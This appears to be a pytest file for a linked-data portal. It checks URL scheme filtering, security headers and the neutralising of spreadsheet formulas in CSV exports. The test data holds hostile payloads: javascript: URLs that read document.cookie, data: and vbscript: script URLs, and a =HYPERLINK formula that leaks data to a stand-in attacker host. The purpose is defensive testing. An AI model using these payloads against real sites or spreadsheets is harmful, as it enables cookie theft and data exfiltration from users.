"""Safe output (issue #13 item 3): links only to http, https and mailto; protective headers on
every response; CSV cells that a spreadsheet would run as formulas are neutralised.

The hostile data is written into a real on-disk store (a copy of the session's), the way a
Graph Store write or a publisher's RDF upload would put it there.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest

from core.tables import neutralise_cell
from portal.safeweb import CONTENT_SECURITY_POLICY, link, safe_url

HOSTILE_HOMEPAGE = "javascript:alert(document.cookie)"
HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?leak","Click")'
FOAF = "http://xmlns.com/foaf/0.1/"
SKOS = "http://www.w3.org/2004/02/skos/core#"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://example.org/a?b=c", "https://example.org/a?b=c"),
        ("HTTP://EXAMPLE.ORG/", "HTTP://EXAMPLE.ORG/"),
        ("mailto:info@example.org", "mailto:info@example.org"),
        ("/page/initiative/x", "/page/initiative/x"),
        ("#source-1", "#source-1"),
        ("javascript:alert(1)", None),
        ("JavaScript:alert(1)", None),
        (" javascript:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("\x01javascript:alert(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("vbscript:msgbox(1)", None),
        ("urn:isbn:9789012345678", None),
        ("//evil.example/x", None),
        ("", None),
        (None, None),
    ],
)
def test_only_http_https_mailto_and_local_paths_are_links(url: Any, expected: Any) -> None:
    assert safe_url(url) == expected


def test_link_renders_text_for_other_schemes() -> None:
    assert str(link(HOSTILE_HOMEPAGE, "Click")) == "Click"
    assert str(link("https://a.example/?x=<1>", None, rel="nofollow")) == (
        '<a href="https://a.example/?x=&lt;1&gt;" rel="nofollow">https://a.example/?x=&lt;1&gt;</a>'
    )
    assert str(link("urn:x", "<b>", lang="en")) == '<span lang="en">&lt;b&gt;</span>'
    assert 'class="tag"' in str(link("/x", "y", class_="tag"))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE_LABEL, "'" + HOSTILE_LABEL),
        ("+31 20 123", "'+31 20 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-12", "-12"),
        ("+1.5e3", "+1.5e3"),
        ("-0.25", "-0.25"),
        (-12, -12),
        (3.5, 3.5),
        (None, None),
        ("Riot clean-up", "Riot clean-up"),
        ("a=b", "a=b"),
    ],
)
def test_cells_are_neutralised_by_owasps_rule(value: Any, expected: Any) -> None:
    assert neutralise_cell(value) == expected


@pytest.fixture(scope="module")
def hostile_store(
    loaded_store_path: Path, tmp_path_factory: pytest.TempPathFactory, base_uri: str
) -> Iterator[Any]:
    """A copy of the loaded store with a ``javascript:`` homepage and a formula label written
    into the curated graph of one initiative."""
    from core.config import Settings
    from core.store import KiemenStore, graph_iri
    from loaders import rebuild_indexes

    path = tmp_path_factory.mktemp("hostile") / "kiemen.oxigraph"
    shutil.copytree(
        loaded_store_path, path, symlinks=True, ignore=shutil.ignore_patterns("downloads")
    )
    settings = Settings.from_env(store_path=path, base_uri=base_uri)
    kstore = KiemenStore(settings)
    row = kstore.rows("index-initiatives", {})[0]
    initiative = ox.NamedNode(str(row["initiative"]))
    curated = graph_iri(settings, "curated")
    with kstore.writing() as gen:
        gen.store.add(
            ox.Quad(
                initiative, ox.NamedNode(FOAF + "homepage"), ox.NamedNode(HOSTILE_HOMEPAGE), curated
            )
        )
        for lang in ("nl", "en"):
            gen.store.add(
                ox.Quad(
                    initiative,
                    ox.NamedNode(SKOS + "prefLabel"),
                    ox.Literal(HOSTILE_LABEL, language=lang),
                    curated,
                )
            )
        rebuild_indexes(gen, kstore)
    yield kstore, initiative.value


def test_a_javascript_homepage_renders_as_text(hostile_store: Any) -> None:
    from portal.app import create_app
    from portal.resource import page_path

    kstore, initiative = hostile_store
    app = create_app(kstore.settings)
    app.config.update(TESTING=True)  # an error shows its traceback instead of a bare 500
    client = app.test_client()
    html = client.get(f"/page/{page_path(kstore.settings, initiative)}?lang=en").get_data(
        as_text=True
    )
    # Both the homepage line and the table of all statements show it, neither as a link.
    assert html.count(HOSTILE_HOMEPAGE) >= 2, "shown, as text"
    assert not re.search(r'href="\s*javascript:', html, re.I)


def test_a_formula_label_is_neutralised_in_the_csv_dump(hostile_store: Any, tmp_path: Path) -> None:
    from core.write.dumps import write_dumps

    kstore, _ = hostile_store
    written = write_dumps(kstore, tmp_path)
    table = next(f for f in written if f["key"] == "initiatives")
    text = (tmp_path / table["file"]).read_text(encoding="utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(text, newline="")) for c in r]
    assert "'" + HOSTILE_LABEL in cells
    assert HOSTILE_LABEL not in cells


def test_every_page_type_carries_the_headers(client: Any, kstore: Any) -> None:
    from portal.resource import page_path

    urls = [
        "/",
        "/browse",
        "/search?q=buurt",
        "/network",
        "/query",
        "/def",
        "/downloads/",
        "/api/initiatives?_size=1",
        "/nope-404",
        "/.well-known/void",
        "/static/kiemen.css",
    ]
    for r in kstore.rows("index-search-things", {})[:200]:
        path = page_path(kstore.settings, r["thing"])
        if path:
            urls.append("/page/" + path)
    for url in dict.fromkeys(urls):
        response = client.get(url)
        assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY, url
        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
        assert response.headers["X-Frame-Options"] == "DENY", url
        assert response.headers["X-Content-Type-Options"] == "nosniff", url
        assert response.headers["Referrer-Policy"] == "strict-origin-when-cross-origin", url


def test_a_response_with_its_own_policy_keeps_it(app: Any) -> None:
    """The reconciliation preview sets a policy that lets OpenRefine frame it."""
    from flask import Response

    own = "default-src 'self'; frame-ancestors *"
    with app.test_request_context("/reconcile/preview"):
        response = app.process_response(Response("x", headers={"Content-Security-Policy": own}))
    assert response.headers["Content-Security-Policy"] == own
    assert "X-Frame-Options" not in response.headers
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_formula_label_is_neutralised_in_the_browse_export(hostile_store: Any) -> None:
    from portal.app import create_app

    kstore, initiative = hostile_store
    client = create_app(kstore.settings).test_client()
    for url in ("/browse/export.csv?lang=nl", "/search/export.csv?q=HYPERLINK&lang=nl"):
        text = client.get(url).get_data().decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        labels = [r["label"] for r in rows if r["iri"] == initiative]
        assert labels == ["'" + HOSTILE_LABEL], (url, labels)
    # JSON keeps the value as it is: neutralising is for spreadsheets only.
    data = client.get("/browse/export.json?lang=nl").get_json()
    assert HOSTILE_LABEL in [r["label"] for r in data["rows"]]
